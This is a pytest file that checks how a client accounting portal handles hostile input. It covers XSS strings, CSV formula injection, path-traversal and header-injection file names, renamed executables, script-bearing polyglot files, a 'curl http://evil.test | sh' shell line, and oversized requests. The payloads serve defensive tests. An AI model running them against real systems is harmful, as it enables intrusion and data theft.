"""Hostile input below the browser: what the services store, what the exports and
downloads hand out, what the upload paths refuse, and how much any request may carry.

The browser half (markup rendered as text, no dialog, the 10,000-message thread) is
tests/e2e/test_hostile_rendering.py.
"""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import time
import zipfile
from types import SimpleNamespace

import pytest
from sqlalchemy import event
from sqlmodel import select
from starlette.testclient import TestClient

from portal import realtime
from portal.api import build_api
from portal.api import files as files_api
from portal.domain import datev
from portal.domain.datev import DatevHeader, ExportBooking
from portal.domain.enums import Role, SubjectKind
from portal.domain.errors import UserError
from portal.domain.files import (
    MAX_FILENAME_BYTES,
    MAX_FILENAME_CHARS,
    PolyglotScan,
    safe_filename,
    sniff,
)
from portal.domain.talks import MAX_MESSAGE_CHARS
from portal.domain.text import clean_block, clean_line
from portal.models import Booking, ClientAccount, Contact, Document, Message, Thread
from portal.services import (
    auth,
    booking_transfer,
    clients,
    conversations,
    db,
    documents,
    folders,
    onboarding,
    questionnaires,
    receipts,
    reminders,
    talks,
    tasks,
    upload_requests,
)
from portal.services.client_import import import_clients
from portal.services.clients import AccountDraft, ContactDraft
from portal.services.uploads import UploadRefused
from portal.storage import content_disposition
from tests import factories

XSS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
       '"><svg onload=alert(1)>', "{{7*7}}", "${7*7}"]
# Account and company names refuse : " / \ | ? * (file systems, exports): these pass.
XSS_NAMES = ["<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "{{7+7}} & ${7+7}"]
# What hides in text: NUL, other controls, a lone surrogate, bidi override/isolate/marks,
# zero-width space/joiner, word joiner, BOM, soft hyphen.
INVISIBLE = "\x00\x07\ud800\u202e\u2066\u200e\u200f\u200b\u2060\ufeff\u00ad"
PDF = b"%PDF-1.4\n" + b"1 0 obj << /Type /Catalog >> endobj\n" * 40 + b"%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 600


async def _chunks(data: bytes, size: int = 300):
    for i in range(0, len(data), size):
        yield data[i:i + size]


@pytest.fixture
def office(fresh_db, monkeypatch):
    """An admin and an accountant, a client with a portal user, a booking talk and a folder."""
    monkeypatch.setattr(realtime, "publish", lambda rooms, **_: None)
    factories.firm()
    admin = factories.staff(role=Role.ADMIN, name="Katrin Berger")
    anna = factories.staff(name="Anna Schmidt")
    account = factories.client(name="Hostile GmbH", accountants=(anna, admin), missing_receipts=2)
    maria = factories.contact(account=account, first="Maria", last="Hofmann")
    with db.session() as s:
        booking_id = s.exec(select(Booking.id).where(Booking.account_id == account.id).order_by(Booking.id)).first()
    anna_actor = factories.actor(anna)
    thread_id = talks.start_talk(actor=anna_actor, booking_id=booking_id, recipient_contact_id=None,
                                 internal=False, sender_name="Anna", body="Beleg bitte")
    uploads = next(f for f in documents.browse(actor=anna_actor, account_id=account.id).subfolders
                   if f.uploads_default)
    return SimpleNamespace(admin=factories.actor(admin), anna=anna_actor, maria=factories.actor(maria),
                           maria_user=maria, account_id=account.id, booking_id=booking_id, thread_id=thread_id,
                           folder_id=uploads.id)


def _stored(model, row_id: int):
    with db.session() as s:
        return s.get(model, row_id)


# Text as stored


@pytest.mark.parametrize("raw, line, block", [
    ("  Anna\n\tSchmidt  ", "Anna Schmidt", "Anna\n\tSchmidt"),
    ("a\r\nb\rc\u2028d", "a b c d", "a\nb\nc\nd"),
    (f"Mül{INVISIBLE}ler", "Müller", "Müller"),
    ("Mu\u0308ller", "Müller", "Müller"),  # decomposed (macOS) and composed are one name
    ("rechnung\u202efdp.exe", "rechnungfdp.exe", "rechnungfdp.exe"),
    ("👩\u200d💻 Team", "👩💻 Team", "👩\u200d💻 Team"),  # messages keep the emoji joiner
    (*XSS[:1], XSS[0], XSS[0]),  # markup is text: kept as typed
])
def test_clean_line_and_block(raw, line, block):
    assert clean_line(raw) == line
    assert clean_block(raw) == block


def test_markup_in_every_text_field_is_stored_and_read_back_literally(office):
    for n, payload in enumerate(XSS):
        subject = f"{payload} {n}"
        thread_id = conversations.start_conversation(actor=office.maria, account_id=office.account_id,
                                                     subject=subject, body=payload)
        talks.post_message(actor=office.anna, thread_id=thread_id, body=f"Re: {payload}", sender_name=payload)
        view = talks.thread_view(actor=office.anna, thread_id=thread_id)
        assert view.subject == subject
        assert [m.body for m in view.messages] == [payload, f"Re: {payload}"]
        assert view.messages[1].sender_name == payload
        assert any(t.subject == subject and t.last_preview == f"Re: {payload}"
                   for t in conversations.inbox(actor=office.anna, state="all", limit=100))
        task_id = tasks.add_task(actor=office.anna, thread_id=office.thread_id, text=payload)
        assert [t.text for t in tasks.list_tasks(actor=office.anna, thread_id=office.thread_id)
                if t.id == task_id] == [payload]
        contact_id = clients.add_contact(actor=office.anna, account_id=office.account_id,
                                         draft=ContactDraft(first_name=payload, last_name=payload, address=payload,
                                                            email=factories.unique_email("xss")))
        contact = _stored(Contact, contact_id)
        assert (contact.first_name, contact.last_name, contact.address) == (payload, payload, payload)
    for name in XSS_NAMES:
        created = clients.create_account(actor=office.anna, draft=AccountDraft(kind="company", name=name, tags=name),
                                         contacts=[ContactDraft(first_name="X", last_name=name, login=False)])
        assert _stored(ClientAccount, created.id).name == name
        assert name in [r.name for r in clients.list_clients(actor=office.anna, query=name[:20]).rows]
        details = clients.account_details(actor=office.anna, account_id=created.id)
        assert details.name == name and details.tags == (name,)
        assert [c.last_name for c in details.contacts] == [name]
        folder_name = name.replace("<", "(").replace(">", ")")  # folders refuse < and >
        folder_id = folders.create_folder(actor=office.anna, account_id=created.id, parent_id=None, name=folder_name)
        assert _stored(folders.Folder, folder_id).name == folder_name


def test_names_with_characters_that_break_paths_are_refused_naming_the_character(office):
    with pytest.raises(UserError) as refused:
        clients.create_account(actor=office.anna, draft=AccountDraft(kind="company", name=XSS[0]),
                               contacts=[ContactDraft(first_name="X", last_name="Y", login=False)])
    assert refused.value.key == "clients.error.name_char" and refused.value.params["char"] == "/"
    for name, char in [("<img src=x>", "<"), ('"><svg>', '"'), ("javascript:x", ":"), ("a\u202eb", "'\\u202e'")]:
        with pytest.raises(folders.FolderError) as refused:
            folders.create_folder(actor=office.anna, account_id=office.account_id, parent_id=None, name=name)
        assert refused.value.key == "folder.error.char" and refused.value.params["char"] == char


def test_invisible_characters_never_reach_the_database(office):
    thread_id = conversations.start_conversation(actor=office.maria, account_id=office.account_id,
                                                 subject=f"Frage{INVISIBLE} 1", body=f"Zeile 1{INVISIBLE}\r\nZeile 2")
    message_id = talks.post_message(actor=office.anna, thread_id=thread_id, body=f"Ant{INVISIBLE}wort",
                                    sender_name=f"An{INVISIBLE}na")
    assert _stored(Thread, thread_id).subject == "Frage 1"
    with db.session() as s:
        bodies = [(m.sender_name, m.body) for m in s.exec(
            select(Message).where(Message.thread_id == thread_id).order_by(Message.id)).all()]
    assert bodies == [("Maria Hofmann", "Zeile 1\nZeile 2"), ("Anna", "Antwort")]
    conversations.edit_message(actor=office.anna, message_id=message_id, body=f"neu{INVISIBLE}")
    assert _stored(Message, message_id).body == "neu"
    contact_id = clients.add_contact(actor=office.anna, account_id=office.account_id,
                                     draft=ContactDraft(first_name=f"Ma{INVISIBLE}x", last_name="Mu\u0308ller",
                                                        phone=f"0171{INVISIBLE}", email=factories.unique_email("inv")))
    contact = _stored(Contact, contact_id)
    assert (contact.first_name, contact.last_name, contact.phone) == ("Max", "Müller", "0171")
    task_id = tasks.add_task(actor=office.anna, thread_id=office.thread_id, text=f"Kontoauszug{INVISIBLE}")
    assert [t.text for t in tasks.list_tasks(actor=office.anna, thread_id=office.thread_id) if t.id == task_id] == [
        "Kontoauszug"]
    created = upload_requests.create_request(actor=office.anna, account_id=office.account_id,
                                             folder_id=office.folder_id, message=f"Bitte{INVISIBLE} hochladen")
    with db.session() as s:
        assert s.get(upload_requests.UploadRequest, created.id).message == "Bitte hochladen"


def test_a_name_that_fills_its_column_still_fits_the_signup_note(office):
    firm_row = factories.ensure_firm()
    with db.session() as s:
        row = s.get(type(firm_row), firm_row.id)
        row.self_signup = True
        s.add(row)
        s.commit()
    onboarding.sign_up(form=onboarding.SignupForm(first_name="V" * 100, last_name="N" * 100,
                                                  email=factories.unique_email("long"), company_name="F" * 200),
                       client="203.0.113.9")
    with db.session() as s:
        thread = s.exec(select(Thread).where(Thread.kind == "signup")).one()
        message = s.exec(select(Message).where(Message.thread_id == thread.id)).one()
    # VARCHAR(200) on Postgres: "Neue Registrierung: " + 200 characters, and "first last" (201), must be cut.
    assert len(thread.subject) == 200 and thread.subject.startswith("Neue Registrierung: F")
    assert len(message.sender_name) == 200


LIMITS = {
    "message": MAX_MESSAGE_CHARS, "message_edit": MAX_MESSAGE_CHARS, "receipt_note": MAX_MESSAGE_CHARS,
    "subject": 200, "account_name": 200, "company_name": 200, "person_name": 100, "address": 500, "phone": 50,
    "tag": 40, "tags": 20, "custom_label": 100, "folder": 200, "document_name": 200, "request_message": 2000,
    "task": 500, "questionnaire_title": 200, "questionnaire_intro": 5000, "question": 1000, "answer": 10_000,
    "reminder": 2000, "invitation": 2000,
}
# Cheap to repeat at the limit itself, to show the check is not off by one (folder names
# refuse invisible characters instead of dropping them, so they are not padded).
AT_LIMIT_PASSES = ("message", "subject", "account_name", "person_name", "task", "request_message",
                   "questionnaire_title", "answer")


def _over_limit_cases(office):
    a, acc = office.anna, office.account_id

    def account(**fields):
        return clients.create_account(actor=a, draft=AccountDraft(kind="company", **fields),
                                      contacts=[ContactDraft(first_name="X", last_name="Y", login=False)])

    def contact(**fields):
        fields = {"first_name": "X", "last_name": "Y", **fields}
        return clients.add_contact(actor=a, account_id=acc,
                                   draft=ContactDraft(email=factories.unique_email("lim"), **fields))

    def document():
        return asyncio.run(documents.upload_document(actor=a, folder_id=office.folder_id, filename="a.pdf",
                                                     chunks=_chunks(PDF)))

    def template():
        return questionnaires.create_template(actor=office.admin, title="Belege 2026")

    return {
        "message": lambda text: talks.post_message(actor=a, thread_id=office.thread_id, body=text),
        "message_edit": lambda text: conversations.edit_message(
            actor=a, message_id=talks.post_message(actor=a, thread_id=office.thread_id, body="x"), body=text),
        "receipt_note": lambda text: talks.add_receipt_message(
            actor=a, thread_id=office.thread_id, body=text, filename="b.pdf", blob_key=f"k{len(text)}", size=1,
            content_type="application/pdf", sha256="0" * 64),
        "subject": lambda text: conversations.start_conversation(actor=a, account_id=acc, subject=text, body="x"),
        "account_name": lambda text: account(name=text),
        "company_name": lambda text: account(name="kurz", company_name=text),
        "person_name": lambda text: contact(first_name=text),
        "address": lambda text: contact(address=text),
        "phone": lambda text: contact(phone=text),
        "tag": lambda text: account(name="Tag GmbH", tags=text),
        "tags": lambda text: account(name="Tags GmbH", tags=",".join(f"t{i}" for i in range(len(text)))),
        "custom_label": lambda text: clients.add_custom_field(actor=office.admin, target="account", label=text,
                                                              kind="text"),
        "folder": lambda text: folders.create_folder(actor=a, account_id=acc, parent_id=None, name=text),
        "document_name": lambda text: documents.rename_document(actor=a, document_id=document(), name=text),
        "request_message": lambda text: upload_requests.create_request(actor=a, account_id=acc,
                                                                       folder_id=office.folder_id, message=text),
        "task": lambda text: tasks.add_task(actor=a, thread_id=office.thread_id, text=text),
        "questionnaire_title": lambda text: questionnaires.create_template(actor=office.admin, title=text),
        "questionnaire_intro": lambda text: questionnaires.create_template(actor=office.admin, title="Q",
                                                                           intro=text),
        "question": lambda text: questionnaires.add_question(actor=office.admin, template_id=template(), text=text,
                                                             kind="text"),
        "answer": lambda text: _answer(office, text),
        "reminder": lambda text: reminders.remind_accountants(actor=office.admin, account_id=acc,
                                                              kinds=["receipts"], comment=text),
        "invitation": lambda text: onboarding.invite(actor=a, account_id=acc, message=text),
    }


@pytest.mark.parametrize("case", LIMITS)
def test_every_service_refuses_text_over_its_limit(office, case):
    """Each length limit the services enforce, one character over it, and padded with
    invisible characters (they are removed first, so they neither count nor help)."""
    call = _over_limit_cases(office)[case]
    with pytest.raises(UserError):
        call("n" * (LIMITS[case] + 1))
    if case in AT_LIMIT_PASSES:
        call("n" * LIMITS[case] + "\u200b\x00" * 20)
    if case == "folder":
        call("n" * LIMITS[case])


def _answer(office, value: str) -> None:
    template_id = questionnaires.create_template(actor=office.admin, title="Fragen")
    questionnaires.add_question(actor=office.admin, template_id=template_id, text="Was?", kind="text")
    sent = questionnaires.send_questionnaire(actor=office.anna, template_id=template_id,
                                             account_id=office.account_id, notify=False)
    question = questionnaires.questionnaire(actor=office.maria, questionnaire_id=sent.questionnaire_id).questions[0]
    questionnaires.save_answer(actor=office.maria, question_id=question.id, value=value)


def test_uploader_and_sender_names_are_cut_not_refused(office):
    message_id = talks.post_message(actor=office.anna, thread_id=office.thread_id, body="x", sender_name="s" * 500)
    assert len(_stored(Message, message_id).sender_name) == talks.MAX_SENDER_NAME_CHARS


# CSV in


def test_client_import_stores_markup_and_formulas_as_text(office):
    header = "Kontotyp;Kontoname;Firmenname;Vorname;Nachname;E-Mail;Adresse"
    lines = [header,
             f"Unternehmen;{XSS_NAMES[0]};;Eve;\"<script>alert(1)</script>\";eve@hostile.test;\"=HYPERLINK(\"\"http://x\"\")\"",
             f"Unternehmen;\"'=1+2 GmbH\";;Mal;\"{XSS[3].replace(chr(34), chr(34) * 2)}\";mal@hostile.test;\"@SUM(A1)\""]
    report = import_clients(actor=office.anna, data="\r\n".join(lines).encode("utf-8"))
    assert report.problems == () and report.accounts == 2
    with db.session() as s:
        eve = s.exec(select(Contact).where(Contact.email == "eve@hostile.test")).one()
        mal = s.exec(select(Contact).where(Contact.email == "mal@hostile.test")).one()
        names = set(s.exec(select(ClientAccount.name)).all())
    assert (eve.last_name, eve.address) == ("<script>alert(1)</script>", '=HYPERLINK("http://x")')
    assert (mal.last_name, mal.address) == (XSS[3], "@SUM(A1)")
    # Our own export's apostrophe is undone on the way back in: the name is what was meant.
    assert {XSS_NAMES[0], "=1+2 GmbH"} <= names


def test_booking_import_then_export_neutralises_formulas_and_keeps_amounts(office):
    data = ("Datum;Betrag;Gegenpartei;Buchungstext\r\n"
            "02.11.2026;-12,50;\"=HYPERLINK(\"\"http://evil.test\"\";\"\"klick\"\")\";<script>alert(1)</script>\r\n"
            "03.11.2026;99,00;@SUM(1+1);+49 171 5550\r\n"
            "04.11.2026;-1.234,56;Lieferant\a\u202e\u2066\u200b\u2060\ufeff\u00ad;\"-Rabatt\"\r\n").encode("utf-8")
    report = booking_transfer.import_bookings(actor=office.anna, account_id=office.account_id, data=data)
    assert report.problems == () and report.imported == 3
    with db.session() as s:
        rows = s.exec(select(Booking).where(Booking.account_id == office.account_id, Booking.date >= dt.date(2026, 11, 2),
                                            Booking.counterparty != "Lieferant 1", Booking.counterparty != "Lieferant 2")
                      .order_by(Booking.date)).all()
    assert [(b.counterparty, b.text, b.amount_cents) for b in rows] == [
        ('=HYPERLINK("http://evil.test";"klick")', "<script>alert(1)</script>", -1250),
        ("@SUM(1+1)", "+49 171 5550", 9900),
        ("Lieferant", "-Rabatt", -123456)]

    result = booking_transfer.export_bookings(actor=office.anna, account_id=office.account_id, fmt="csv", year=2026)
    from portal.storage import get_store

    with get_store().open(result.key) as handle:
        table = list(csv.reader(io.StringIO(handle.read().decode("utf-8-sig")), delimiter=";"))
    by_counterparty = {row[4]: row for row in table[1:]}
    evil = by_counterparty["'=HYPERLINK(\"http://evil.test\";\"klick\")"]
    assert evil[1] == "-12,50" and evil[5] == "<script>alert(1)</script>"
    assert by_counterparty["'@SUM(1+1)"][5] == "'+49 171 5550"
    assert by_counterparty["Lieferant"][1:2] == ["-1.234,56"] and by_counterparty["Lieferant"][5] == "'-Rabatt"


# CSV out


def _header() -> DatevHeader:
    return DatevHeader(consultant_number=29098, client_number=10001, fiscal_year_start=dt.date(2026, 1, 1),
                       created_at=dt.datetime(2026, 11, 30, 12, 0, tzinfo=dt.UTC), exported_by="=Anna",
                       period_from=dt.date(2026, 11, 1), period_to=dt.date(2026, 11, 30), description="@Stapel")


FORMULAS = ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x";"y")']


@pytest.mark.parametrize("formula", FORMULAS)
def test_excel_csv_neutralises_every_text_column_and_keeps_amounts_numbers(formula):
    booking = ExportBooking(id=7, ledger="suppliers", date=dt.date(2026, 11, 2), amount_cents=-1250, currency="EUR",
                            counterparty=formula, text=formula, receipt_filenames=(f"{formula}.pdf",))
    row = list(csv.reader(io.StringIO(datev.bookings_csv([booking]).decode("utf-8-sig")), delimiter=";"))[1]
    date, amount, currency, ledger, counterparty, text, receipt = row
    assert (date, amount, currency, ledger) == ("02.11.2026", "-12,50", "EUR", "Lieferanten")
    for cell in (counterparty, text, receipt):
        assert cell.startswith("'") and cell[1:] == (formula if cell is not receipt else f"{formula}.pdf")


@pytest.mark.parametrize("formula", FORMULAS)
def test_datev_text_fields_are_neutralised_and_its_number_fields_stay_valid(formula):
    booking = ExportBooking(id=7, ledger=formula, date=dt.date(2026, 11, 2), amount_cents=-1250, currency="EUR",
                            counterparty=formula, text=formula + "x" * 80)
    lines = datev.buchungsstapel([booking], header=_header()).decode(datev.DATEV_ENCODING).split("\r\n")
    header = next(csv.reader([lines[0]], delimiter=";"))
    fields = next(csv.reader([lines[2]], delimiter=";"))
    column = {name: fields[i] for i, name in enumerate(datev.BUCHUNGSSTAPEL_COLUMNS)}
    # Numbers and codes exactly as DATEV's format wants them: no sign, no apostrophe.
    assert column["Umsatz (ohne Soll/Haben-Kz)"] == "12,50" and column["Soll/Haben-Kennzeichen"] == "H"
    assert column["Belegdatum"] == "0211" and column["Belegfeld 1"] == "P7" and column["WKZ Umsatz"] == "EUR"
    cleaned = " ".join(formula.split())
    for name in ("Buchungstext", "Beleginfo - Inhalt 1", "Beleginfo - Inhalt 2"):
        assert column[name].startswith("'" + cleaned[:1]), name
    assert len(column["Buchungstext"]) == datev.MAX_TEXT
    assert header[8] == "'=Anna" and header[16] == "'@Stapel"
    assert len(fields) == len(datev.BUCHUNGSSTAPEL_COLUMNS)  # no field broke the row


def test_plain_text_and_positive_amounts_are_left_alone():
    booking = ExportBooking(id=8, ledger="bank", date=dt.date(2026, 11, 3), amount_cents=9900, currency="EUR",
                            counterparty="Müller & Söhne", text="Rechnung 7")
    row = list(csv.reader(io.StringIO(datev.bookings_csv([booking]).decode("utf-8-sig")), delimiter=";"))[1]
    assert row[1:6] == ["99,00", "EUR", "Bank", "Müller & Söhne", "Rechnung 7"]
    fields = datev.buchungsstapel([booking], header=_header()).decode(datev.DATEV_ENCODING).split("\r\n")[2]
    assert fields.startswith('99,00;"S";"EUR"') and '"Rechnung 7"' in fields


# File names


@pytest.mark.parametrize("name, expected", [
    ("../../etc/passwd", "passwd.pdf"),
    ("..\\..\\windows\\win.ini", "win.ini.pdf"),
    ("/etc/shadow", "shadow.pdf"),
    ("C:\\Users\\x\\rechnung.pdf", "rechnung.pdf"),
    ("rech\x00nung.pdf", "rechnung.pdf"),
    ("..", "datei.pdf"),
    ("", "datei.pdf"),
    ("rechnung\u202efdp.exe", "rechnungfdp.exe.pdf"),  # shown as "rechnungexe.pdf" without the strip
    ("in\u200bvoi\u2060ce\ufeff.pdf", "invoice.pdf"),
    ("beleg\u2066.pdf\u2069.exe", "beleg.pdf.exe.pdf"),
    ("scan\u2024pdf", "scan\u2024pdf.pdf"),  # a homoglyph dot: the real extension is still added
    ("x\ud800.pdf", "x.pdf"),
])
def test_hostile_file_names_become_safe_names(name, expected):
    assert safe_filename(name, "application/pdf") == expected


@pytest.mark.parametrize("name", ["a" * 300 + ".pdf", "ä" * 300 + ".pdf", "😀" * 300 + ".pdf", "漢" * 400])
def test_overlong_names_are_cut_by_characters_and_bytes_keeping_the_extension(name):
    safe = safe_filename(name, "application/pdf")
    assert safe.endswith(".pdf") and len(safe) <= MAX_FILENAME_CHARS and len(safe.encode()) <= MAX_FILENAME_BYTES
    assert safe[0] == name[0]


@pytest.mark.parametrize("name", ["rechnung\u202efdp.exe", "a\r\nSet-Cookie: x=1.pdf", 'a";filename="evil.exe',
                                  "../../x.pdf", "in\u200bvoice.pdf", "x\ud800.pdf"])
def test_content_disposition_carries_no_invisible_characters_paths_or_header_breaks(name):
    header = content_disposition(name)
    assert header.isascii() and "\r" not in header and "\n" not in header
    assert header.startswith('attachment; filename="') and header.count('"') == 2
    encoded = header.split("filename*=UTF-8''", 1)[1]
    for hidden in ("%E2%80%AE", "%E2%80%8B", "%0D", "%0A", "%2F", "%5C", "%ED%A0%80"):
        assert hidden not in encoded
    assert "/" not in header.split(";")[1]


# Content sniffing


@pytest.mark.parametrize("head", [
    b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 100,  # Windows .exe
    b"\x7fELF\x02\x01\x01" + b"\x00" * 100,  # Linux
    b"\xcf\xfa\xed\xfe" + b"\x07" * 100, b"\xce\xfa\xed\xfe" + b"\x07" * 100,  # Mach-O, little endian
    b"\xfe\xed\xfa\xce" + b"\x07" * 100, b"\xfe\xed\xfa\xcf" + b"\x07" * 100,  # Mach-O, big endian
    b"\xca\xfe\xba\xbe" + b"\x00" * 100,  # universal binary
    b"#!/bin/sh\ncurl http://evil.test | sh\n",
])
@pytest.mark.parametrize("name", ["rechnung.pdf", "foto.jpg"])
def test_renamed_programs_are_refused_everywhere(office, head, name):
    with pytest.raises(UploadRefused):
        asyncio.run(documents.upload_document(actor=office.maria, folder_id=office.folder_id, filename=name,
                                              chunks=_chunks(head)))
    with pytest.raises(UploadRefused):
        asyncio.run(receipts.upload_receipt(actor=office.maria, thread_id=office.thread_id, filename=name,
                                            chunks=_chunks(head)))
    with db.session() as s:
        assert s.exec(select(Document)).all() == []


POLYGLOTS = {
    "pdf+html": b"%PDF-1.4\n" + b"%" * 2000 + b"\n<html><body><script>alert(document.cookie)</script></body></html>",
    "pdf+svg": b"%PDF-1.7\n1 0 obj\n<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\nendobj\n",
    "pdf+js-url": b"%PDF-1.4\n" + b"0" * 700 + b"<< /URI (JaVaScRiPt:alert(1)) >>",
    "gif+js": b"GIF89a/*\x01\x00\x01\x00\x00\xff\x00,\x00\x00*/=alert(document.domain);//" + b"\x00" * 64,
    "gif+js=": b"GIF89a=alert(1);//\x00" + b"\x00" * 64,
    "jpeg+js": b"\xff\xd8\xff\xe0/*JFIF\x00*/=alert(1);/*" + b"\x00" * 600,
    "png+img": PNG + b"tEXt<img src=x onerror=alert(1)>" + b"\x00" * 100,
    "png+iframe-late": PNG + b"\x00" * 9000 + b"<IFRAME src=//evil.test>",
}


@pytest.mark.parametrize("kind", POLYGLOTS)
def test_polyglots_are_refused_as_receipts_and_documents(office, kind):
    data = POLYGLOTS[kind]
    assert sniff(data[:512]) in {"application/pdf", "image/gif", "image/jpeg", "image/png"}
    for size in (7, 4096):  # the marker split over chunks is found too
        with pytest.raises(UploadRefused):
            asyncio.run(receipts.upload_receipt(actor=office.maria, thread_id=office.thread_id, filename="x.pdf",
                                                chunks=_chunks(data, size)))
        with pytest.raises(UploadRefused):
            asyncio.run(documents.upload_document(actor=office.anna, folder_id=office.folder_id, filename="x.pdf",
                                                  chunks=_chunks(data, size)))
    with db.session() as s:
        assert s.exec(select(Document)).all() == []


def test_real_receipts_and_office_files_pass_the_polyglot_scan(office):
    import pypdfium2
    from PIL import Image

    photo = io.BytesIO()
    Image.effect_noise((900, 700), 90).convert("RGB").save(photo, format="JPEG", quality=95)
    pdf = pypdfium2.PdfDocument.new()
    pdf.new_page(595, 842)
    pdf_bytes = io.BytesIO()
    pdf.save(pdf_bytes)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:  # a saved web page in a ZIP is a ZIP, not a polyglot
        z.writestr("seite.html", "<html><script>1</script></html>")
    for name, data in [("foto.jpg", photo.getvalue()), ("form.pdf", pdf_bytes.getvalue()),
                       ("seite.zip", archive.getvalue())]:
        asyncio.run(documents.upload_document(actor=office.anna, folder_id=office.folder_id, filename=name,
                                              chunks=_chunks(data, 64 * 1024)))
    assert not PolyglotScan("application/pdf").feed(b"%PDF-1.4\n/JavaScript form calculations stay allowed")


@pytest.mark.parametrize("text, expected", [
    (b"<script>alert(1)</script>", "text/html"), (b"<body onload=alert(1)>", "text/html"),
    (b"  <IFRAME src=x>", "text/html"), (b"<!-- x --><b>", "text/html"), (b"<p>Hallo</p>", "text/html"),
    (b"<svg onload=alert(1)>", "image/svg+xml"), (b"<bitte beachten>", "text/plain"), (b"a<script>", "text/plain"),
])
def test_text_a_browser_would_take_for_a_page_is_html_here_too(text, expected):
    assert sniff(text) == expected


# Downloads


@pytest.fixture
def http(office):
    client = TestClient(build_api(), base_url="http://127.0.0.1")
    token = auth.login(email=office.maria_user.email, password=factories.PASSWORD).token
    client.cookies.set(auth.SESSION_COOKIE, auth.sign_session_token(token))
    return client


@pytest.mark.parametrize("name, data", [
    ("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
    ("seite.html", b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"),
    ("notiz.txt", b"<script>alert(1)</script>"),
    ("daten.xml", b"<?xml version='1.0'?><x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>alert(1)</h:script></x>"),
])
def test_svg_and_html_uploads_are_only_ever_downloaded_as_bytes(office, http, name, data):
    asyncio.run(documents.upload_document(actor=office.maria, folder_id=office.folder_id, filename=name,
                                          chunks=_chunks(data)))
    with db.session() as s:
        doc = s.exec(select(Document)).one()
    response = http.get(f"/files/{doc.blob_key}")
    assert response.status_code == 200 and response.content == data
    assert response.headers["content-type"] == "application/octet-stream"
    assert response.headers["content-disposition"].startswith("attachment;")
    assert response.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in response.headers["content-security-policy"]
    assert "default-src 'none'" in response.headers["content-security-policy"]


def test_downloads_of_safe_types_keep_their_type_and_old_rows_lose_their_tricks(office, http):
    asyncio.run(documents.upload_document(actor=office.maria, folder_id=office.folder_id, filename="a.pdf",
                                          chunks=_chunks(PDF)))
    with db.session() as s:
        doc = s.exec(select(Document)).one()
        doc.filename = "rechnung\u202efdp.exe"  # as a row from before safe_filename might hold it
        s.add(doc)
        s.commit()
        key = doc.blob_key
    response = http.get(f"/files/{key}")
    assert response.headers["content-type"] == "application/pdf"
    assert "%E2%80%AE" not in response.headers["content-disposition"]
    assert "filename*=UTF-8''rechnungfdp.exe" in response.headers["content-disposition"]
    assert files_api.served_type("text/html") == files_api.served_type("image/svg+xml") == "application/octet-stream"


# How much a request may carry


def test_auth_forms_refuse_big_bodies_before_reading_them(fresh_db):
    http = TestClient(build_api(), base_url="http://127.0.0.1")
    huge = "email=a%40b.test&password=" + "x" * (2 * 1024 * 1024)
    for path in ("/auth/login", "/auth/forgot", "/auth/reset", "/auth/activate"):
        declared = http.post(path, content=huge, follow_redirects=False,
                             headers={"content-type": "application/x-www-form-urlencoded"})
        assert declared.status_code == 413, path

        def chunked():
            yield b"email=a%40b.test&password="
            for _ in range(64):
                yield b"x" * 64 * 1024

        streamed = http.post(path, content=chunked(), follow_redirects=False,
                             headers={"content-type": "application/x-www-form-urlencoded"})
        assert streamed.status_code == 413, path
    many = "&".join(f"f{i}=1" for i in range(50))
    assert http.post("/auth/login", content=many, follow_redirects=False,
                     headers={"content-type": "application/x-www-form-urlencoded"}).status_code == 400
    with_file = http.post("/auth/login", files={"email": ("a.txt", b"x")}, follow_redirects=False)
    assert with_file.status_code == 400
    normal = http.post("/auth/login", data={"email": "nobody@example.test", "password": "x"}, follow_redirects=False)
    assert normal.status_code == 303


def test_push_subscription_refuses_big_json(office, http):
    body = b'{"endpoint": "' + b"x" * 10_000 + b'"}'
    response = http.post("/push/subscriptions", content=body, headers={
        "content-type": "application/json", "origin": "http://127.0.0.1"})
    assert response.status_code == 413


def test_the_websocket_takes_events_up_to_a_fixed_size_and_drops_the_socket_beyond(monkeypatch):
    """engine.io reads each websocket message whole, then refuses it when it is too big:
    this runs its handler with the portal's server and one message either side of the cap."""
    import engineio.async_socket

    from portal.portal import MAX_EVENT_BYTES, app

    assert app.sio.eio.max_http_buffer_size == MAX_EVENT_BYTES <= 1024 * 1024
    server = app.sio.eio

    class FakeWebSocket:
        def __init__(self, frames):
            self.frames, self.sent, self.closed = list(frames), [], False

        async def wait(self):
            return self.frames.pop(0) if self.frames else None

        async def send(self, data):
            self.sent.append(data)

        async def close(self):
            self.closed = True

    async def run(frames):
        socket = engineio.async_socket.AsyncSocket(server, "hostile-test")
        received = []

        async def receive(pkt):
            received.append(len(pkt.data or ""))

        monkeypatch.setattr(socket, "receive", receive)
        ws = FakeWebSocket(frames)
        await asyncio.wait_for(socket._websocket_handler(ws), 10)
        return received, ws

    fits = "4" + "x" * (MAX_EVENT_BYTES - 1)
    received, _ = asyncio.run(run([fits]))
    assert received == [MAX_EVENT_BYTES - 1]
    received, ws = asyncio.run(run(["4" + "x" * MAX_EVENT_BYTES, "4small"]))
    assert received == [] and ws.closed  # the big one ends the socket; nothing after it is read


def test_an_upload_request_carries_at_most_max_files():
    from portal.state.file_upload import MAX_FILES, _files

    async def chunks():
        for n in range(MAX_FILES + 30):
            for part in range(2):
                yield SimpleNamespace(filename=f"f{n}.pdf", data=b"%d" % part)

    async def collect():
        seen = []
        async for name, data in _files(chunks()):
            seen.append((name, b"".join([piece async for piece in data])))
        return seen

    seen = asyncio.run(collect())
    assert len(seen) == MAX_FILES and seen[0] == ("f0.pdf", b"01") and seen[-1][0] == f"f{MAX_FILES - 1}.pdf"


# 10,000 messages


@pytest.fixture
def long_thread(office):
    with db.session() as s:
        maria = s.get(Contact, office.maria.id)
    factories.bulk_messages(thread_id=office.thread_id, count=10_000, author=maria,
